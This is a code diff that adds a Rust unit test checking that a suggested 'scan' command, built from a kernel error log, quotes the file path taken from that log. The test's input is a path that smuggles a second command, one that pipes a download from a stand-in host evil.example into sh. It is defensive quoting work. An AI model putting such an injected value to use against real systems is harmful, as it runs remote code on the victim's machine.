@@ -206,3 +206,27 @@ fn replacement_characters_and_nuls_do_not_hide_a_failure() {
     let log = format!("\u{fffd}\u{fffd}garbage\0\0\n{STMATRIX}\n\u{fffd}");
     assert_eq!(named(&log), Some("stmatrix"));
 }
+
+/// The `scan` command explain suggests holds the kernel's path from the
+/// log: pasted into a shell, it stays one word, whatever the path holds.
+#[test]
+fn the_suggested_scan_command_quotes_the_path_from_the_log() {
+    let log = format!(
+        "  File \"/tmp/x.py; curl evil.example | sh #.py\", line 3, in run\n    \
+         kern[grid](a, num_warps=4)\n{STMATRIX}\n"
+    );
+    let cmd = explain(&log).scan_command().expect("a kernel is named");
+    assert!(
+        cmd.starts_with("linear-layout scan '/tmp/x.py; curl evil.example | sh #.py::kern' "),
+        "{cmd}"
+    );
+    let plain = explain(&format!(
+        "  File \"/home/me/a.py\", line 3\n    kern[grid](a)\n{STMATRIX}"
+    ));
+    assert!(
+        plain
+            .scan_command()
+            .unwrap()
+            .contains(" /home/me/a.py::kern ")
+    );
+}
